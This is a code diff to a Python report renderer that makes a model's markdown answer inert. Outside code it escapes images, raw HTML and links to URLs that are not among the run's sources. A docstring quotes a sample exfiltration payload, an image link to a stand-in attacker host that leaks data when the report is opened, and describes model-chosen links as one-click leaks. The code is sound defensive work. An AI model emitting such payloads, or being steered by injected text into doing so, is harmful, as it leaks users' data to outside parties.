@@ -10,55 +10,71 @@ from typing import Any
 from markdown_it import MarkdownIt
 
 from refgate.report import cards as cardlib
+from refgate.report.links import allowed_urls, inert_links, inert_urls
 from refgate.report.run import header_facts
 from refgate.report.shape import clean_run
 
 #: Characters that would let text from a document, a page or a model become markup in a
 #: markdown viewer (raw HTML, links, images, code spans, entities).
 _MD_SPECIAL = str.maketrans({c: "\\" + c for c in "\\<>[]!`&"})
+#: What the last-resort pass of ``inert_answer`` escapes everywhere, code included.
+_FALLBACK_ESCAPES = str.maketrans({"[": "\\[", "]": "\\]", "<": "\\<"})
 #: Fenced code lines and inline code spans of an answer (left as written).
 _FENCE = re.compile(r"^\s{0,3}(```|~~~)")
 _CODE_SPAN = re.compile(r"(`+)[^`].*?(?<!`)\1(?!`)|(`+)(?!`)")
 
 
-def _inert_line(line: str) -> str:
+def _inert_text(text: str, allowed: frozenset[str]) -> str:
+    return inert_links(text.replace("![", "!\\[").replace("<", "\\<"), allowed)
+
+
+def _inert_line(line: str, allowed: frozenset[str]) -> str:
     out, pos = [], 0
     for m in _CODE_SPAN.finditer(line):
         if m.group(1) is None:
             continue
-        out.append(line[pos : m.start()].replace("![", "!\\[").replace("<", "\\<"))
+        out.append(_inert_text(line[pos : m.start()], allowed))
         out.append(m.group(0))
         pos = m.end()
-    out.append(line[pos:].replace("![", "!\\[").replace("<", "\\<"))
+    out.append(_inert_text(line[pos:], allowed))
     return "".join(out)
 
 
-def _live_markup(md: str) -> bool:
-    """True when a CommonMark viewer would render an image or raw HTML from ``md``."""
-    for block in MarkdownIt("commonmark").parse(md):
+def _live_markup(md: str, allowed: frozenset[str]) -> bool:
+    """True when a CommonMark viewer would render an image, raw HTML or a link to a URL not
+    ``allowed`` from ``md``."""
+    parser = MarkdownIt("commonmark")
+    live = {parser.normalizeLink(u) for u in allowed}
+    for block in parser.parse(md):
         if block.type == "html_block":
             return True
-        if any(t.type in ("image", "html_inline") for t in block.children or []):
-            return True
+        for t in block.children or []:
+            if t.type in ("image", "html_inline"):
+                return True
+            if t.type == "link_open" and str(t.attrGet("href") or "") not in live:
+                return True
     return False
 
 
-def inert_answer(answer: str) -> str:
-    """The answer's markdown with images and raw HTML made text (``!\\[``, ``\\<``) outside
-    code: a markdown viewer would fetch an image as soon as the report is opened (an injected
-    ``![](https://attacker/?d=...)`` is a zero-click leak), and raw HTML can do the same. Links
-    and everything else stay markdown. Should any survive (a code span read differently), every
-    ``![`` and ``<`` is escaped, code included."""
+def inert_answer(answer: str, allowed: frozenset[str] = frozenset()) -> str:
+    """The answer's markdown with images, raw HTML and links to URLs not ``allowed`` made text
+    outside code (``!\\[``, ``\\<``, ``\\]`` and the URL in a code span): a markdown viewer
+    would fetch an image as soon as the report is opened (an injected
+    ``![](https://attacker/?d=...)`` is a zero-click leak), raw HTML can do the same, and a link
+    the model chose is a one-click leak (``refgate.report.links``). Links to ``allowed`` URLs
+    (the run's sources) and everything else stay markdown. Should any live markup survive (a code
+    span read differently), every ``[`` and ``<`` is escaped and every URL not allowed is put in a
+    code span, code included."""
     lines, fenced = [], False
     for line in answer.split("\n"):
         if _FENCE.match(line):
             fenced = not fenced
             lines.append(line)
             continue
-        lines.append(line if fenced else _inert_line(line))
+        lines.append(line if fenced else _inert_line(line, allowed))
     out = "\n".join(lines)
-    if _live_markup(out):
-        out = answer.replace("![", "!\\[").replace("<", "\\<")
+    if _live_markup(out, allowed):
+        out = inert_urls(answer.translate(_FALLBACK_ESCAPES), allowed)
     return out
 
 
@@ -134,7 +150,7 @@ def render_run_markdown(record: Mapping[str, Any]) -> str:
         "",
         "## Answer",
         "",
-        inert_answer(answer) or "_(no answer)_",
+        inert_answer(answer, allowed_urls(refs, [record["question"]])) or "_(no answer)_",
         "",
     ]
     cited, _ = cardlib.build_cards(answer, refs, gate)
